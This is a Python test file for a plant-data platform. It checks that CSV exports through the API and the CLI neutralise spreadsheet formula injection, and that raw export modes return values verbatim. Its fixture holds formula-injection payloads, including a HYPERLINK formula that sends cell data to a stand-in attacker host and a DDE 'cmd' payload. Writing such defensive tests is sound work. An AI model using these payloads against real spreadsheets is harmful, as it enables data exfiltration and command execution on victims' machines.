"""Issue 13, finding 4: no CSV the platform writes runs as a formula in a spreadsheet.

A plant file whose text cells start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is loaded (as the importer must: every stored value equals its source), then exported through
the API (``format=csv``) and ``plant-analytics export``: each such cell comes back with a
leading ``'`` inside double quotes (OWASP), numbers (negative ones included) and text that is a
plain number stay as they are, and the raw modes (``format=csv-raw``, ``--raw-csv``) give back
every value verbatim. On SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.engine import Engine

from plant_analytics.csv_safety import needs_neutralising, neutralise
from plant_analytics.ingest.service import ingest_file
from tests.api.conftest import PLANTS_2022, build_app
from tests.cli.test_main import cli_db, cli_env, invoke  # noqa: F401 - fixtures

HOSTILE = {
    "PNAME": '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "OPRNAME": "@SUM(1+1)*cmd|' /C calc'!A0",
    "UTLSRVNM": "+1+1",
    "CNTYNAME": "-2+3",
    "BANAME": "\t=1+1",
    "SRNAME": "\r=1+1",
}
NUMERIC_TEXT = {"ISORTO": "-11"}  # text that is a plain number: a spreadsheet reads -11


@pytest.fixture
def hostile_file(samples: Path, tmp_path: Path) -> Path:
    """The 2022 plant sample's first three rows, the first one with hostile text cells."""
    with (samples / PLANTS_2022).open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    header, first = rows[0], rows[1]
    for code, text in {**HOSTILE, **NUMERIC_TEXT}.items():
        first[header.index(code)] = text
    path = tmp_path / "plnt2022_hostile.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([header, first, rows[2], rows[3]])
    return path


@pytest.fixture
def loaded(engine: Engine, hostile_file: Path) -> Engine:
    result = ingest_file(engine, hostile_file)
    assert result.ok, result.message
    return engine


@pytest.fixture
def client(loaded: Engine) -> Iterator[TestClient]:
    with TestClient(build_app(loaded)) as client:
        yield client


def _records(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_neutraliser_changes_text_only() -> None:
    for text in ("=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "--", "-inf"):
        assert neutralise(text) == "'" + text
    for value in (-11, -1023.001, 0, None, True, "-11", "-1023.001", "+1e3", ".5", "a=b", ""):
        assert neutralise(value) == value
        assert not isinstance(value, str) or not needs_neutralising(value)


def test_api_csv_neutralises_formulas_and_keeps_numbers(client: TestClient) -> None:
    response = client.get("/api/v1/plants", params={"year": 2022, "format": "csv"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    hostile = next(r for r in _records(response.text) if r["plant_name"].startswith("'"))
    columns = {"PNAME": "plant_name", "OPRNAME": "operator_name", "CNTYNAME": "county_name"}
    for code, column in columns.items():
        assert hostile[column] == "'" + HOSTILE[code]
    # On the wire the neutralised cell is quoted, the quote first: "'=HYPERLINK(...
    assert "\"'=HYPERLINK(" in response.text
    # A negative number stays a number: unquoted, no leading quote.
    longitude = hostile["longitude"]
    assert float(longitude) < 0
    assert f",{longitude}," in response.text or response.text.endswith(f",{longitude}\n")
    assert hostile["iso_rto"] == "-11"  # text that is a plain number is left alone


def test_api_raw_csv_gives_back_every_value(client: TestClient) -> None:
    response = client.get("/api/v1/plants", params={"year": 2022, "format": "csv-raw"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert 'filename="' in response.headers["content-disposition"]
    assert response.headers["content-disposition"].endswith('.csv"')
    hostile = next(r for r in _records(response.text) if r["plant_name"].startswith("="))
    assert hostile["plant_name"] == HOSTILE["PNAME"]
    assert hostile["operator_name"] == HOSTILE["OPRNAME"]
    assert hostile["county_name"] == HOSTILE["CNTYNAME"]


def test_cli_export_neutralises_and_raw_round_trips(
    cli_db: Engine,  # noqa: F811 - the fixture imported above
    hostile_file: Path,
    tmp_path: Path,
) -> None:
    assert invoke("ingest", "-q", str(hostile_file))[0] == 0
    code, stdout, _ = invoke("export", "-l", "plant", "-y", "2022")
    assert code == 0
    safe = _records(stdout)[0]
    for code_name, text in HOSTILE.items():
        assert safe[code_name] == "'" + text, code_name
    assert safe["ISORTO"] == "-11"  # text that is a plain number is left alone
    assert float(safe["LON"]) < 0
    assert not safe["LON"].startswith("'")

    out = tmp_path / "raw.csv"
    assert invoke("export", "-l", "plant", "-y", "2022", "--raw-csv", "-o", str(out))[0] == 0
    with hostile_file.open(encoding="utf-8", newline="") as handle:
        source = list(csv.DictReader(handle))
    with out.open(encoding="utf-8", newline="") as handle:
        raw = list(csv.DictReader(handle))
    for code_name, text in {**HOSTILE, **NUMERIC_TEXT}.items():
        assert raw[0][code_name] == text == source[0][code_name]
